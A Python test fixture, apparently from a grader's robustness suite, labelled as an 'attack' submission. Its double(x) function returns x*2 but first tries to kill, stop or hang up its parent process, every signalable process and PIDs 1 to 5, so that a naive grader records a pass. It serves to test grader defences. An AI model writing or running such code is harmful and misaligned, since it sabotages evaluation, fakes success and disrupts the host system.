"""Signals every process and group that it was forked from."""

# /// attack
# verdicts = { double = "PASSED" }
# points = 3
# control = "it would signal the naive grader"
# ///

import os
import signal


def double(x):
    for target in (os.getppid(), -1, 1, 2, 3, 4, 5):
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGHUP):
            try:
                os.kill(target, number)
            except OSError:
                pass
    return x * 2
